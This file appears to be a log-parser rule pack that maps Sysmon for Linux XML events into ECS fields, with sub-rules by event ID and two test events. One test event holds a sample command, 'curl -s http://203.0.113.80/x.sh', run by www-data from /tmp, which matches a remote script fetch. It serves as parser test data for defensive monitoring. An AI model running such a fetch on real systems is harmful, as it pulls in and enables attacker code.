# Sysmon for Linux writes each event to syslog as one line of XML
#   ("sysmon: <Event><System><Provider Name="Linux-Sysmon" …/><EventID>1</EventID>…
#   <EventData><Data Name="Image">/usr/bin/curl</Data>…"). The rules read the
#   System block and the EventData fields Elastic's sysmon_linux
#   integration maps (process, parent, user, network, file).
#
# Windows Sysmon events (winlogbeat JSON, or the OSSEC/Wazuh agent's
# "WinEvtLog:" text lines) are read by the Windows packs.
#
# Test lines are made up: documentation addresses, invented hosts and GUIDs.

log_source_type "sysmon-linux" {
  header   = "syslog"
  timezone = "UTC"
  vendor   = "Microsoft"
  product  = "Sysmon for Linux"
  module   = "sysmon_linux"
}

# ------------------------------------------------------------ Sysmon for Linux

rule "sysmon-linux-event" {
  description      = "one Sysmon for Linux event in XML: process create/terminate, network connect, file create/delete, service and config state"
  log_source_types = ["sysmon-linux"]
  sort_order       = 1780
  pattern          = <<-RE
    \<Provider Name="Linux-Sysmon"[^>]*/>\<EventID>(?P<event__code>\d+)\</EventID>(?:.*?\<Computer>(?P<host__name>[^<]*)\</Computer>)?(?:.*?\<Data Name="RuleName">(?P<rule__name>[^<]*)\</Data>)?(?:.*?\<Data Name="ProcessGuid">(?P<process__entity_id>[^<]*)\</Data>)?(?:.*?\<Data Name="ProcessId">(?P<process__pid>\d+)\</Data>)?(?:.*?\<Data Name="Image">(?P<process__executable>[^<]*)\</Data>)?(?:.*?\<Data Name="CommandLine">(?P<process__command_line>[^<]*)\</Data>)?(?:.*?\<Data Name="CurrentDirectory">(?P<process__working_directory>[^<]*)\</Data>)?(?:.*?\<Data Name="TargetFilename">(?P<file__path>[^<]*)\</Data>)?(?:.*?\<Data Name="User">(?P<user__name>[^<]*)\</Data>)?(?:.*?\<Data Name="ParentProcessId">(?P<process__parent__pid>\d+)\</Data>)?(?:.*?\<Data Name="ParentImage">(?P<process__parent__executable>[^<]*)\</Data>)?(?:.*?\<Data Name="ParentCommandLine">(?P<process__parent__command_line>[^<]*)\</Data>)?(?:.*?\<Data Name="Protocol">(?P<network__transport>[^<]*)\</Data>)?(?:.*?\<Data Name="SourceIp">(?:<sip>|[^<]*)\</Data>)?(?:.*?\<Data Name="SourcePort">(?:<sport>|[^<]*)\</Data>)?(?:.*?\<Data Name="DestinationIp">(?:<dip>|[^<]*)\</Data>)?(?:.*?\<Data Name="DestinationHostname">(?P<destination__domain>[^<-][^<]*)\</Data>)?(?:.*?\<Data Name="DestinationPort">(?:<dport>|[^<]*)\</Data>)?
  RE
  classification   = "Other Audit"
  common_event     = "Sysmon Event"
  risk             = 1
  fields           = { "event.kind" = "event" }

  sub_rule "process-create" {
    when         = "event.event.code == \"1\""
    common_event = "Process Created"
    fields       = { "event.category" = ["process"], "event.type" = ["start"], "event.action" = "Process Create" }
  }
  sub_rule "network" {
    when           = "event.event.code == \"3\""
    classification = "Network Traffic"
    common_event   = "Network Connection"
    fields         = { "event.category" = ["network"], "event.type" = ["connection", "start"], "event.action" = "Network connection detected" }
  }
  sub_rule "process-end" {
    when         = "event.event.code == \"5\""
    common_event = "Process Terminated"
    fields       = { "event.category" = ["process"], "event.type" = ["end"], "event.action" = "Process terminated" }
  }
  sub_rule "file-create" {
    when         = "event.event.code == \"11\""
    common_event = "File Created"
    fields       = { "event.category" = ["file"], "event.type" = ["creation"], "event.action" = "File created" }
  }
  sub_rule "file-delete" {
    when         = "event.event.code in [\"23\", \"26\"]"
    common_event = "File Deleted"
    fields       = { "event.category" = ["file"], "event.type" = ["deletion"], "event.action" = "File Delete" }
  }
  sub_rule "sysmon-state" {
    when           = "event.event.code in [\"4\", \"16\"]"
    classification = "Policy"
    common_event   = "Sysmon Configuration Changed"
    risk           = 3
    fields         = { "event.category" = ["configuration"], "event.type" = ["change"] }
  }

  test {
    log             = "Jun  4 09:00:00 lnx-web1 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{00000000-0000-0000-0000-000000000001}\"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"2024-06-04T09:00:00.000000000Z\"/><EventRecordID>501</EventRecordID><Correlation/><Execution ProcessID=\"800\" ThreadID=\"800\"/><Channel>Linux-Sysmon/Operational</Channel><Computer>lnx-web1</Computer><Security UserId=\"0\"/></System><EventData><Data Name=\"RuleName\">-</Data><Data Name=\"UtcTime\">2024-06-04 09:00:00.000</Data><Data Name=\"ProcessGuid\">{00000000-0000-0000-0000-0000000000aa}</Data><Data Name=\"ProcessId\">4321</Data><Data Name=\"Image\">/usr/bin/curl</Data><Data Name=\"FileVersion\">-</Data><Data Name=\"Description\">-</Data><Data Name=\"Product\">-</Data><Data Name=\"Company\">-</Data><Data Name=\"OriginalFileName\">-</Data><Data Name=\"CommandLine\">curl -s http://203.0.113.80/x.sh</Data><Data Name=\"CurrentDirectory\">/tmp</Data><Data Name=\"User\">www-data</Data><Data Name=\"LogonGuid\">{00000000-0000-0000-0000-000000000000}</Data><Data Name=\"LogonId\">33</Data><Data Name=\"TerminalSessionId\">4294967295</Data><Data Name=\"IntegrityLevel\">no level</Data><Data Name=\"Hashes\">-</Data><Data Name=\"ParentProcessGuid\">{00000000-0000-0000-0000-0000000000ab}</Data><Data Name=\"ParentProcessId\">4300</Data><Data Name=\"ParentImage\">/bin/sh</Data><Data Name=\"ParentCommandLine\">sh -c curl</Data><Data Name=\"ParentUser\">www-data</Data></EventData></Event>"
    log_source_type = "syslog"
    expect = {
      "event.code"                = "1"
      "host.name"                 = "lnx-web1"
      "process.pid"               = "4321"
      "process.executable"        = "/usr/bin/curl"
      "process.command_line"      = "curl -s http://203.0.113.80/x.sh"
      "process.working_directory" = "/tmp"
      "user.name"                 = "www-data"
      "process.parent.pid"        = "4300"
      "process.parent.executable" = "/bin/sh"
      common_event                = "Process Created"
      "observer.vendor"           = "Microsoft"
    }
  }
  test {
    log    = "Jun  4 09:00:01 lnx-web1 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{00000000-0000-0000-0000-000000000001}\"/><EventID>3</EventID><Version>5</Version><Level>4</Level><Task>3</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"2024-06-04T09:00:01.000000000Z\"/><EventRecordID>502</EventRecordID><Correlation/><Execution ProcessID=\"800\" ThreadID=\"800\"/><Channel>Linux-Sysmon/Operational</Channel><Computer>lnx-web1</Computer><Security UserId=\"0\"/></System><EventData><Data Name=\"RuleName\">-</Data><Data Name=\"UtcTime\">2024-06-04 09:00:01.000</Data><Data Name=\"ProcessGuid\">{00000000-0000-0000-0000-0000000000aa}</Data><Data Name=\"ProcessId\">4321</Data><Data Name=\"Image\">/usr/bin/curl</Data><Data Name=\"User\">www-data</Data><Data Name=\"Protocol\">tcp</Data><Data Name=\"Initiated\">true</Data><Data Name=\"SourceIsIpv6\">false</Data><Data Name=\"SourceIp\">192.0.2.20</Data><Data Name=\"SourceHostname\">-</Data><Data Name=\"SourcePort\">51000</Data><Data Name=\"SourcePortName\">-</Data><Data Name=\"DestinationIsIpv6\">false</Data><Data Name=\"DestinationIp\">203.0.113.80</Data><Data Name=\"DestinationHostname\">-</Data><Data Name=\"DestinationPort\">80</Data><Data Name=\"DestinationPortName\">-</Data></EventData></Event>"
    expect = { "event.code" = "3", sip = "192.0.2.20", sport = "51000", dip = "203.0.113.80", dport = "80", "network.transport" = "tcp", common_event = "Network Connection" }
  }
}
